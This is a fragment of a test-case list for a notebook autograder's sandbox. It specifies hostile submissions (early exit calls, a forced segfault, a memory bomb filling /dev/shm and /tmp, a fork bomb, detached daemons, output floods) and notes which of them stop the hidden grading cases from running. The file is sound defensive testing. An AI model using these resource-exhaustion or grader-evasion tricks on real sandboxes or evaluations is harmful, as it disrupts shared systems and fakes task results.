         (Replace("residual_block", ZEROS_BLOCK), InsertAfter("residual_block_demo", SYS_EXIT),
          InsertAfter("resnet18_adaptation", "exit()\nquit()\nraise SystemExit(0)\n")),
         expect=NO_BLOCKS,
         why="a zeros block, then sys.exit(0), exit(), quit() and SystemExit: the notebook goes on and is graded"),
    Case("hostile", "hostile_segfault_after_block_tests_score_blocks_only",
         (InsertAfter("residual_block_demo", CTYPES_NULL), InsertAfter("test_shortcut_projection", SEGFAULT)),
         expect=dict(ONLY_BLOCKS, residual_block_shapes=2.0),
         why="ctypes.string_at(0) before the block tests, then faulthandler._sigsegv() and SIGSEGV after them: "
             "the later items and the hidden block cases (run after the last cell) are never reached",
         review=True),
    Case("hostile", "hostile_memory_bomb_at_the_end_score_all_but_hidden_cases",
         (InsertAfter(None, MEMORY_BOMB),),
         expect={"residual_block_shapes": 2.0},
         why="touched memory until MemoryError at ever smaller sizes, then filling /dev/shm, /tmp and home: the "
             "sandbox's memory limit ends the process, so the hidden block cases (run after the last cell) "
             "never run",
         review=True),
    Case("hostile", "hostile_fork_bomb_at_the_end_score_full",
         (InsertAfter(None, FORK_BOMB),),
         why="os.fork() in an endless loop at the end of a correct notebook: the cell is stopped, its processes "
             "killed before the hidden block cases run",
         review=True),
    Case("hostile", "hostile_daemons_started_early_score_full",
         (InsertAfter("setup", DAEMONS),),
         why="a double-forked setsid daemon, setsid -f and nohup processes started right after setup",
         review=True),
    Case("hostile", "hostile_print_flood_early_score_full",
         (InsertAfter("setup", PRINT_FLOOD),),
         why="40 MB printed, 80 MB written raw to fds 1 and 2, 10 MB to sys.__stdout__, after setup"),
]
